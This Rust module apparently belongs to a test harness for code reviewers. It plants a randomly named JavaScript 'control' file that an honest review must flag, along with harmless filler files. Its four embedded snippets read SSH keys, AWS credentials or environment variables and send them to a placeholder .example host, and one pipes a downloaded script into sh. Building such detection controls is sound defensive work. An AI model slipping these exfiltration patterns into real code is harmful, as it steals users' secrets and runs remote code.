//! The control: a file that nobody wrote and that every honest review must report; without it silence would prove nothing.

use super::dice::{self, NoDice};

const FOLDERS: [&str; 6] = ["lib", "src", "scripts", "tools", "shared", "internal"];
const FIRST: [&str; 10] =
    ["session", "update", "cache", "report", "profile", "sync", "metrics", "release", "state", "remote"];
const SECOND: [&str; 10] =
    ["helper", "store", "check", "client", "bridge", "runner", "loader", "notes", "format", "support"];

/// Each reads a secret and sends it away. It never runs and its host does not exist (RFC 2606).
const SNIPPETS: [&str; 4] = [
    "import { readFileSync } from \"node:fs\";\nimport { homedir } from \"node:os\";\n\nexport async function NAME() {\n  \
     const body = readFileSync(`${homedir()}/.ssh/id_ed25519`, \"utf8\");\n  await fetch(\"https://HOST.example/in\", { \
     method: \"POST\", body });\n}\n",
    "const https = require(\"node:https\");\n\nfunction NAME() {\n  const request = https.request({ host: \
     \"HOST.example\", method: \"POST\" });\n  request.end(JSON.stringify(process.env));\n}\n\nmodule.exports = { NAME };\n",
    "const { execSync } = require(\"node:child_process\");\n\nexports.NAME = function NAME() {\n  execSync(\"curl -fsSL \
     https://HOST.example/start.sh | sh\", { stdio: \"ignore\" });\n};\n",
    "const fs = require(\"node:fs\");\nconst os = require(\"node:os\");\n\nexports.NAME = async () => {\n  const saved = \
     fs.readFileSync(os.homedir() + \"/.aws/credentials\", \"utf8\");\n  await fetch(\"https://HOST.example/c\", { method: \
     \"PUT\", body: Buffer.from(saved).toString(\"base64\") });\n};\n",
];

/// Harmless files for what a request lacks, so that there is always a script and a document to mark.
const CODE: &str = "export function NAME(values) {\n  return values.filter(Boolean).join(\", \");\n}\n\nexport const FIRST = \
                    \"SECOND\";\n";
const PROSE: &str =
    "# FIRST SECOND\n\nHow the FIRST SECOND is laid out.\n\n- one entry a line\n- the newest entry last\n";

/// A file that is not the plugin's.
#[derive(Debug)]
pub(super) struct Planted {
    pub(super) path: String,
    pub(super) text: String,
}

/// The control, at a path that `taken` does not know.
pub(super) fn control(taken: &dyn Fn(&str) -> bool) -> Result<Planted, NoDice> {
    planted(dice::pick(&SNIPPETS)?, "js", taken)
}

/// A harmless script.
pub(super) fn script(taken: &dyn Fn(&str) -> bool) -> Result<Planted, NoDice> {
    planted(CODE, "js", taken)
}

/// A harmless document.
pub(super) fn document(taken: &dyn Fn(&str) -> bool) -> Result<Planted, NoDice> {
    planted(PROSE, "md", taken)
}

fn planted(pattern: &str, extension: &str, taken: &dyn Fn(&str) -> bool) -> Result<Planted, NoDice> {
    let (first, second) = (dice::pick(&FIRST)?, dice::pick(&SECOND)?);
    let text = pattern
        .replace("NAME", &format!("{first}{}", capital(second)))
        .replace("HOST", &format!("{first}-{second}"))
        .replace("FIRST", first)
        .replace("SECOND", second);
    let mut path = format!("{}/{first}-{second}.{extension}", dice::pick(&FOLDERS)?);
    while taken(&path) {
        // A number is drawn, so a plugin that has all the plain names cannot make this long.
        path = format!("{}/{first}-{second}-{}.{extension}", dice::pick(&FOLDERS)?, dice::below(1_000_000)?);
    }
    Ok(Planted { path, text })
}

fn capital(word: &str) -> String {
    let mut letters = word.chars();
    letters.next().map(|first| first.to_ascii_uppercase()).into_iter().chain(letters).collect()
}
